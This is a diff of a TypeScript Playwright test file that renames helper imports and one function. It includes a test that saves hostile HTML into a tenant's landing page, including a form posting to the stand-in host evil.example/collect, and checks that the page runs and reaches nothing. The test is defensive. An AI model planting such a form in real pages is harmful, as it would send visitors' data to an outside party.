@@ -1,8 +1,8 @@
 import type { Browser, BrowserContextOptions, Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
-import { company, type TestCompany } from "../harness/company.ts";
-import { aToken } from "../harness/pages.ts";
-import { complaintsOf, launchBrowser } from "./browser.ts";
+import { company, type TestCompany } from "../harness/factories/company.ts";
+import { aToken } from "../harness/servers/public-pages.ts";
+import { collectPageErrors, launchBrowser } from "./launch-browser.ts";
 
 let own: TestCompany;
 let browser: Browser;
@@ -23,7 +23,7 @@ afterAll(async () => {
 async function open(path: string, options: BrowserContextOptions = {}): Promise<{ page: Page; complaints: string[] }> {
   const context = await browser.newContext({ viewport: { width: 360, height: 740 }, ...options });
   const page = await context.newPage();
-  const complaints = complaintsOf(page);
+  const complaints = collectPageErrors(page);
   await page.goto(`${origin}${path}`);
   return { page, complaints };
 }
@@ -102,7 +102,7 @@ it("a landing page runs nothing and reaches nothing, even if something got past 
     <form action="https://evil.example/collect" method="post"><button>Send</button></form>`;
   await own.ctx.db.sql`update landing_page set html = ${html} where tenant_id = ${own.tenantId} and id = ${id}`;
   const page = await (await browser.newContext()).newPage();
-  const complaints = complaintsOf(page);
+  const complaints = collectPageErrors(page);
   const asked: string[] = [];
   page.on("request", (request) => asked.push(request.url().replace(origin, "")));
   await page.goto(`${origin}/l/${slug}`, { waitUntil: "load" });
